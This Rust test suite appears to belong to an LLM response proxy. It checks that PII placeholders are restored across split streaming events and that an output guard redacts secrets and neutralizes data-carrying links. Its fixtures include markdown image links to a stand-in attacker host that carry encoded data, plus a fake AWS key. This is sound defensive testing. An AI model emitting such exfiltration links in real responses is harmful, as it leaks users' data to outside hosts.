use super::*;
use serde_json::{json, Value};
use zeroize::Zeroizing;

fn mapping() -> Arc<Mapping> {
    let mut m = Mapping::new();
    m.insert("<EMAIL_1>".into(), Zeroizing::new("ada@example.org".into()));
    m.insert(
        "<PHONE_12>".into(),
        Zeroizing::new("+44 20 7946 \"0958\"".into()),
    );
    Arc::new(m)
}

#[test]
fn restores_complete_placeholders_and_leaves_unknown_ones() {
    let m = mapping();
    assert_eq!(
        restore_text(&m, "mail <EMAIL_1>, call <PHONE_12>; <EMAIL_9> <b>", false),
        "mail ada@example.org, call +44 20 7946 \"0958\"; <EMAIL_9> <b>"
    );
    assert_eq!(
        restore_text(&m, r#"{"to":"<PHONE_12>"}"#, true),
        r#"{"to":"+44 20 7946 \"0958\""}"#
    );
    assert!(matches!(
        restore_text(&m, "no placeholders", false),
        Cow::Borrowed(_)
    ));
}

fn openai_event(content: &str) -> (Vec<u8>, String) {
    let data = json!({"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{"content":content},"finish_reason":null}]}).to_string();
    (format!("data: {data}\n\n").into_bytes(), data)
}

/// Feeds content pieces as events; returns the text the client received after each event.
fn replay(pieces: &[&str], map: &Arc<Mapping>) -> (Vec<String>, String) {
    let mut r = StreamRestorer::new(Some(map.clone()), None);
    let mut seen = String::new();
    let mut after_each = Vec::new();
    let take = |bytes: &[u8], seen: &mut String| {
        for (events, _) in [crate::sse::split_all(bytes)] {
            for ev in events {
                if ev.data == "[DONE]" {
                    continue;
                }
                let v: Value = serde_json::from_str(&ev.data).expect("valid event json");
                if let Some(c) = v["choices"][0]["delta"]["content"].as_str() {
                    seen.push_str(c);
                }
            }
        }
    };
    for p in pieces {
        let (raw, data) = openai_event(p);
        let out = r.on_event(&raw, None, &data, true).unwrap_or(raw.clone());
        take(&out, &mut seen);
        after_each.push(seen.clone());
    }
    let stop = json!({"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}).to_string();
    let raw = format!("data: {stop}\n\n");
    let out = r
        .on_event(raw.as_bytes(), None, &stop, true)
        .unwrap_or(raw.clone().into_bytes());
    take(&out, &mut seen);
    take(&r.finish(), &mut seen);
    (after_each, seen)
}

#[test]
fn sse_placeholder_split_across_events_at_every_boundary() {
    let m = mapping();
    let text = "Write to <EMAIL_1> or call <PHONE_12> today. <EMAIL_1>!";
    let expected = restore_text(&m, text, false).into_owned();
    let bounds: Vec<usize> = (0..=text.len())
        .filter(|i| text.is_char_boundary(*i))
        .collect();
    for &a in &bounds {
        for &b in bounds.iter().filter(|&&b| b >= a) {
            let pieces = [&text[..a], &text[a..b], &text[b..]];
            let (after_each, total) = replay(&pieces, &m);
            assert_eq!(total, expected, "split at {a},{b}");
            // Nothing is held beyond a possible placeholder start.
            let mut sent_prefix = String::new();
            for (i, seen) in after_each.iter().enumerate() {
                sent_prefix.push_str(pieces[i]);
                let cut = partial_placeholder_start(&sent_prefix).unwrap_or(sent_prefix.len());
                assert_eq!(
                    seen,
                    &restore_text(&m, &sent_prefix[..cut], false),
                    "split at {a},{b}, after event {i}"
                );
            }
        }
    }
}

#[test]
fn sse_single_character_events() {
    let m = mapping();
    let text = "Hi <EMAIL_1>, a < b and <NOT_A_MATCH> and <PHONE_12>";
    let pieces: Vec<&str> = text
        .char_indices()
        .map(|(i, c)| &text[i..i + c.len_utf8()])
        .collect();
    let (_, total) = replay(&pieces, &m);
    assert_eq!(total, restore_text(&m, text, false));
}

#[test]
fn a_partial_placeholder_at_the_end_is_flushed_not_lost() {
    let m = mapping();
    let (_, total) = replay(&["the end <EMA"], &m);
    assert_eq!(total, "the end <EMA");
}

#[test]
fn anthropic_tool_arguments_are_restored_with_json_escaping() {
    let m = mapping();
    let args = r#"{"to": "<PHONE_12>", "cc": "<EMAIL_1>"}"#;
    let mut r = StreamRestorer::new(Some(m.clone()), None);
    let mut json_src = String::new();
    for split in [5, 13, 17, 30] {
        let (a, b) = args.split_at(split);
        for piece in [a, b] {
            let data = json!({"type":"content_block_delta","index":1,"delta":{"type":"input_json_delta","partial_json":piece}}).to_string();
            let raw = format!("event: content_block_delta\ndata: {data}\n\n");
            let out = r
                .on_event(raw.as_bytes(), Some("content_block_delta"), &data, true)
                .unwrap_or(raw.into_bytes());
            for ev in crate::sse::split_all(&out).0 {
                assert_eq!(ev.event.as_deref(), Some("content_block_delta"));
                let v: Value = serde_json::from_str(&ev.data).expect("json");
                json_src.push_str(v["delta"]["partial_json"].as_str().unwrap_or(""));
            }
        }
        let stop = json!({"type":"content_block_stop","index":1}).to_string();
        let raw = format!("event: content_block_stop\ndata: {stop}\n\n");
        if let Some(out) = r.on_event(raw.as_bytes(), Some("content_block_stop"), &stop, true) {
            for ev in crate::sse::split_all(&out).0 {
                let v: Value = serde_json::from_str(&ev.data).expect("json");
                json_src.push_str(v["delta"]["partial_json"].as_str().unwrap_or(""));
            }
        }
        let parsed: Value = serde_json::from_str(&json_src)
            .unwrap_or_else(|e| panic!("split {split}: {e}: {json_src}"));
        assert_eq!(parsed["to"], "+44 20 7946 \"0958\"");
        assert_eq!(parsed["cc"], "ada@example.org");
        json_src.clear();
    }
}

#[test]
fn whole_json_responses_are_restored_in_place() {
    let m = mapping();
    let body = json!({"choices":[{"message":{"content":"mail <EMAIL_1>","tool_calls":[{"function":{"name":"send","arguments":"{\"to\":\"<PHONE_12>\"}"}}]}}],"usage":{"prompt_tokens":3}}).to_string();
    let mut notes = Vec::new();
    let out = restore_json(body.as_bytes(), Some(&m), None, &mut notes).expect("changed");
    let v: Value = serde_json::from_slice(&out).expect("json");
    assert_eq!(
        v["choices"][0]["message"]["content"],
        "mail ada@example.org"
    );
    let args: Value = serde_json::from_str(
        v["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"]
            .as_str()
            .expect("args"),
    )
    .expect("args json");
    assert_eq!(args["to"], "+44 20 7946 \"0958\"");
    assert_eq!(v["usage"]["prompt_tokens"], 3);
}

fn guard() -> OutputGuard {
    let engine = Arc::new(Engine::new().expect("engine"));
    OutputGuard {
        secret_keywords: Arc::new(secret_keywords(&engine)),
        engine,
        redact_secrets: true,
        neutralize_links: true,
        warn_only: false,
        link_allowlist: vec!["docs.example.org".into()],
    }
}

#[test]
fn output_guard_redacts_secrets_and_neutralizes_exfil_links() {
    let g = guard();
    let key = format!("{}{}", "AKIA", "Q3ZLWB4T7HXVN2PR");
    let text = format!("Use {key}. ![x](https://evil.example.net/p.png?d=c2VjcmV0) see [docs](https://docs.example.org/a?b=1) and [home](https://evil.example.net/)");
    let mut notes = Vec::new();
    let out = g.check(&text, &mut notes).expect("changed");
    assert!(!out.contains(&key), "{out}");
    assert!(out.contains("[REDACTED:aws-access-key-id]"), "{out}");
    assert!(out.contains("![x](#airlock-removed-link)"), "{out}");
    assert!(
        out.contains("https://docs.example.org/a?b=1"),
        "allowlisted host kept: {out}"
    );
    assert!(
        out.contains("https://evil.example.net/)"),
        "a link without data is kept: {out}"
    );
    assert_eq!(notes.iter().filter(|n| n.kind == "exfil").count(), 1);
}

/// Regression: a secret cut across stream events reached the client, each piece checked alone.
#[test]
fn output_secret_split_across_stream_events_is_redacted() {
    let key = format!("{}{}", "AKIA", "Q3ZLWB4T7HXVN2PR");
    let text = format!("token {key} end. Ask me anything.");
    for step in [1, 2, 3, 5, 7] {
        let mut r = StreamRestorer::new(None, Some(guard()));
        let mut seen = String::new();
        let chars: Vec<char> = text.chars().collect();
        for piece in chars.chunks(step) {
            let piece: String = piece.iter().collect();
            let (raw, data) = openai_event(&piece);
            let out = r.on_event(&raw, None, &data, true).unwrap_or(raw);
            for ev in crate::sse::split_all(&out).0 {
                let v: Value = serde_json::from_str(&ev.data).expect("json");
                seen.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
            }
        }
        for ev in crate::sse::split_all(&r.finish()).0 {
            let v: Value = serde_json::from_str(&ev.data).expect("json");
            seen.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
        }
        assert_eq!(
            seen, "token [REDACTED:aws-access-key-id] end. Ask me anything.",
            "step {step}"
        );
    }
}

#[test]
fn ordinary_words_are_not_held_by_the_secret_guard() {
    let g = guard();
    for text in ["hello there", "the answer is 42", "we use it", "done."] {
        assert_eq!(g.partial_secret_start(text), None, "{text}");
    }
    assert!(g.partial_secret_start("key: AKIA").is_some());
    assert!(
        g.partial_secret_start("use gh").is_some(),
        "a keyword's start is held"
    );
    assert!(
        g.partial_secret_start("we use an API").is_some(),
        "it may become api_key=…"
    );
    assert!(g
        .partial_secret_start("-----BEGIN RSA PRIVATE KEY-----\nMIIE")
        .is_some());
}

#[test]
fn a_streamed_exfil_link_is_held_until_complete_then_neutralized() {
    let mut r = StreamRestorer::new(None, Some(guard()));
    let text = "see ![img](https://evil.example.net/x.png?q=topsecret) ok";
    let mut seen = String::new();
    for (i, c) in text.char_indices() {
        let (raw, data) = openai_event(&text[i..i + c.len_utf8()]);
        let out = r.on_event(&raw, None, &data, true).unwrap_or(raw);
        for ev in crate::sse::split_all(&out).0 {
            let v: Value = serde_json::from_str(&ev.data).expect("json");
            seen.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
        }
    }
    for ev in crate::sse::split_all(&r.finish()).0 {
        let v: Value = serde_json::from_str(&ev.data).expect("json");
        seen.push_str(v["choices"][0]["delta"]["content"].as_str().unwrap_or(""));
    }
    assert_eq!(seen, "see ![img](#airlock-removed-link) ok");
    assert!(!seen.contains("topsecret"));
}

/// QA defect 4: an event without text (a ping, a keep-alive comment, an empty delta) between the
/// two halves of a placeholder flushed the first half unrestored. Every split point, every
/// kind of interloper, OpenAI and Anthropic framing.
#[test]
fn events_without_text_between_halves_do_not_break_the_holdback() {
    let m = mapping();
    let text = "to <EMAIL_1> ok";
    let expected = "to ada@example.org ok";
    let openai_empty = json!({"id":"c1","object":"chat.completion.chunk","choices":[{"index":0,"delta":{},"finish_reason":null}]}).to_string();
    let interlopers: Vec<(Option<&str>, String, bool)> = vec![
        (Some("ping"), r#"{"type": "ping"}"#.to_owned(), true),
        (None, String::new(), false), // `: keepalive`
        (None, openai_empty, true),
    ];
    for (name, idata, has_data) in &interlopers {
        for cut in 0..=text.len() {
            for anthropic in [false, true] {
                let mut r = StreamRestorer::new(Some(m.clone()), None);
                let mut seen = String::new();
                let mut feed =
                    |r: &mut StreamRestorer, raw: Vec<u8>, n: Option<&str>, d: &str, h: bool| {
                        let out = r.on_event(&raw, n, d, h).unwrap_or(raw);
                        for ev in crate::sse::split_all(&out).0 {
                            let v: Value = serde_json::from_str(&ev.data).unwrap_or(Value::Null);
                            let piece = if anthropic {
                                v["delta"]["text"].as_str()
                            } else {
                                v["choices"][0]["delta"]["content"].as_str()
                            };
                            seen.push_str(piece.unwrap_or(""));
                        }
                    };
                let delta = |t: &str| -> (Vec<u8>, Option<&'static str>, String) {
                    if anthropic {
                        let d = json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":t}}).to_string();
                        (
                            format!("event: content_block_delta\ndata: {d}\n\n").into_bytes(),
                            Some("content_block_delta"),
                            d,
                        )
                    } else {
                        let (raw, d) = openai_event(t);
                        (raw, None, d)
                    }
                };
                let (raw, n, d) = delta(&text[..cut]);
                feed(&mut r, raw, n, &d, true);
                let iraw = match (name, has_data) {
                    (_, false) => b": keepalive\n\n".to_vec(),
                    (Some(n), true) => format!("event: {n}\ndata: {idata}\n\n").into_bytes(),
                    (None, true) => format!("data: {idata}\n\n").into_bytes(),
                };
                feed(&mut r, iraw, *name, idata, *has_data);
                let (raw, n, d) = delta(&text[cut..]);
                feed(&mut r, raw, n, &d, true);
                let out = r.finish();
                feed(&mut r, out, None, "", false);
                assert_eq!(
                    seen, expected,
                    "cut {cut}, interloper {name:?} {idata:?}, anthropic {anthropic}"
                );
            }
        }
    }
}

/// QA defect 4: a secret split across Anthropic deltas with a ping between reached the client.
#[test]
fn secret_split_around_a_ping_is_redacted() {
    let key = format!("{}{}", "AKIA", "Q3ZLWB4T7HXVN2PR");
    let text = format!("token {key} end");
    for cut in 6..text.len() - 4 {
        let mut r = StreamRestorer::new(None, Some(guard()));
        let mut seen = String::new();
        let mut feed = |r: &mut StreamRestorer, name: &str, d: String| {
            let raw = format!("event: {name}\ndata: {d}\n\n").into_bytes();
            let out = r.on_event(&raw, Some(name), &d, true).unwrap_or(raw);
            for ev in crate::sse::split_all(&out).0 {
                let v: Value = serde_json::from_str(&ev.data).expect("json");
                seen.push_str(v["delta"]["text"].as_str().unwrap_or(""));
            }
        };
        let delta = |t: &str| {
            json!({"type":"content_block_delta","index":0,"delta":{"type":"text_delta","text":t}})
                .to_string()
        };
        feed(&mut r, "content_block_delta", delta(&text[..cut]));
        feed(&mut r, "ping", r#"{"type": "ping"}"#.to_owned());
        feed(&mut r, "content_block_delta", delta(&text[cut..]));
        feed(
            &mut r,
            "content_block_stop",
            r#"{"type":"content_block_stop","index":0}"#.to_owned(),
        );
        assert_eq!(seen, "token [REDACTED:aws-access-key-id] end", "cut {cut}");
    }
}
